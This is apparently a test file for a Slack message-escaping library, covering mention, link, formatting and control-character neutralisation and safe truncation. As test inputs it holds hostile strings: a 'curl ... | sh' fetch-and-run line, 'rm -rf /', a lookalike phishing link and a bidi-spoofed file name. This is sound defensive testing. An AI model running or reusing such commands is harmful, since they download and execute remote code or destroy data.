import { codeBlock, cutPlain, escapeMrkdwn, inlineCode, splitGraphemes } from '../../activities/notify/slack-text';

/** Everything that Slack parses between angle brackets: mentions, links, channels, dates. */
const controlSequences = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0000EVIL1>',
  '<#C0000SOC1>',
  '<!subteam^S0SECURITY>',
  '<https://evil.example/login|Open the runbook>',
  '<!date^1733312061^{date}|x>',
];

describe('escapeMrkdwn', () => {
  test.each(controlSequences)('leaves no control sequence in %s', (sequence) => {
    const escaped = escapeMrkdwn(`before ${sequence} after`, 500);

    expect(escaped).not.toMatch(/[<>]/);
    expect(escaped).toContain('&lt;');
    expect(escaped).toContain('&gt;');
  });

  test('escapes ampersands, including text that looks like an entity', () => {
    expect(escapeMrkdwn('a & b &lt;', 100)).toBe('a &amp; b &amp;lt;');
  });

  test.each(['@channel', '@here', '@everyone', '@Channel'])('neutralises the broadcast %s', (mention) => {
    const escaped = escapeMrkdwn(`ping ${mention} now`, 100);

    expect(escaped).not.toContain(mention);
    expect(escaped).toContain(`\uFF20${mention.slice(1)}`);
  });

  test('keeps an address that only starts like a broadcast', () => {
    expect(escapeMrkdwn('ops@channels.example', 100)).toBe('ops@channels.example');
  });

  test('replaces paired formatting delimiters with lookalikes', () => {
    const escaped = escapeMrkdwn('*urgent* _now_ ~gone~ `rm -rf /`', 100);

    expect(escaped).not.toMatch(/[*_~`]/);
    expect(escaped).toBe('\u2217urgent\u2217 \uFF3Fnow\uFF3F \u223Cgone\u223C \u02CBrm -rf /\u02CB');
  });

  test('keeps a single delimiter, which cannot format', () => {
    expect(escapeMrkdwn('/tmp/my_file and 2*3', 100)).toBe('/tmp/my_file and 2*3');
  });

  test('puts line breaks on one line', () => {
    expect(escapeMrkdwn('line one\n> quoted\r\nline three', 100)).toBe('line one &gt; quoted line three');
  });

  test('replaces bidirectional overrides and drops control characters', () => {
    const escaped = escapeMrkdwn('invoice\u202Efdp.exe\u0007\u0000', 100);

    expect(escaped).toBe('invoice\uFFFDfdp.exe');
  });
});

describe('cutting long values', () => {
  test('cuts to the limit and ends with an ellipsis', () => {
    const cut = escapeMrkdwn('x'.repeat(5000), 100);

    expect(cut).toHaveLength(100);
    expect(cut.endsWith('…')).toBe(true);
  });

  test('counts escaped length against the limit', () => {
    const cut = escapeMrkdwn('<'.repeat(100), 50);

    expect(cut.length).toBeLessThanOrEqual(50);
    expect(cut).toMatch(/^(&lt;)+…$/);
  });

  test('never splits an emoji sequence', () => {
    const family = '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}';
    const cut = cutPlain(family.repeat(20), 30);
    const parts = splitGraphemes(cut);

    expect(cut.length).toBeLessThanOrEqual(30);
    expect(parts.at(-1)).toBe('…');
    expect(parts.slice(0, -1).every((part) => part === family)).toBe(true);
  });

  test('never leaves a lone surrogate', () => {
    const cut = cutPlain(`a${'\u{1F525}'.repeat(50)}`, 20);

    expect(cut).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/);
    expect(cut.length).toBeLessThanOrEqual(20);
  });

  test('keeps combining marks with their base letter', () => {
    const cut = cutPlain('e\u0301'.repeat(20), 9);

    expect(
      splitGraphemes(cut)
        .slice(0, -1)
        .every((part) => part === 'e\u0301'),
    ).toBe(true);
  });

  test('leaves short values whole', () => {
    expect(cutPlain('short', 5)).toBe('short');
  });
});

describe('code spans', () => {
  test('inlineCode keeps backticks from closing the span', () => {
    const rendered = inlineCode('sh -c `curl http://198.51.100.7/x | sh`', 200);

    expect(rendered.startsWith('`')).toBe(true);
    expect(rendered.endsWith('`')).toBe(true);
    expect(rendered.split('`')).toHaveLength(3);
  });

  test('inlineCode stays on one line and escapes control sequences', () => {
    const rendered = inlineCode('pod\n<!channel>\ttab', 200);

    expect(rendered).toBe('`pod &lt;!channel&gt; tab`');
  });

  test('inlineCode marks an empty value', () => {
    expect(inlineCode('  \n ', 50)).toBe('_(empty)_');
  });

  test('codeBlock keeps lines and cannot be closed early', () => {
    const rendered = codeBlock('line one\n```\n*bold* <@U0000EVIL1>\nline four', 500);

    expect(rendered.startsWith('```')).toBe(true);
    expect(rendered.endsWith('```')).toBe(true);
    expect(rendered.split('`')).toHaveLength(7);
    expect(rendered).toContain('line one\n');
    expect(rendered).toContain('&lt;@U0000EVIL1&gt;');
  });

  test('codeBlock stays within its limit', () => {
    const rendered = codeBlock('A'.repeat(10_000), 3000);

    expect(rendered.length).toBeLessThanOrEqual(3000);
    expect(rendered.endsWith('…```')).toBe(true);
  });
});
